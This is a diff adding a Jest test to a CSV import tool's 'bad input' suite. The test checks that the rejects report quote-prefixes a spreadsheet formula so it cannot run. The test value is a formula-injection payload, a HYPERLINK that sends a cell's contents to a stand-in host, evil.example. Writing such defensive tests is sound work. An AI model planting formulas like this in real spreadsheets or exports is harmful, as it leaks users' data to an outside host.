@@ -276,6 +276,23 @@ describe('bad input', () => {
     expect(count(db, 'application')).toBe(59);
   });
 
+  it('the rejects report quotes a rejected formula so that no spreadsheet runs it', async () => {
+    const db = freshCopyOfPreviousBase();
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")';
+    const rows = [
+      withField(newAppRows[0]!, 'AMT_CREDIT', formula),
+      withField(newAppRows[1]!, 'DAYS_BIRTH', '-12000.5'),
+    ];
+    const summary = await importCsvFolder({
+      dir: folder({ 'application_train.csv': appFile(rows) }),
+      dbPath: db,
+    });
+    expect(rejectsOf(summary).map((r) => [r.line, r.column, r.value])).toEqual([
+      ['2', 'AMT_CREDIT', `'${formula}`],
+      ['3', 'DAYS_BIRTH', '-12000.5'],
+    ]);
+  });
+
   it('a decimal in an integer column, or a TARGET outside 0/1, rejects the row', async () => {
     const db = freshCopyOfPreviousBase();
     const rows = [
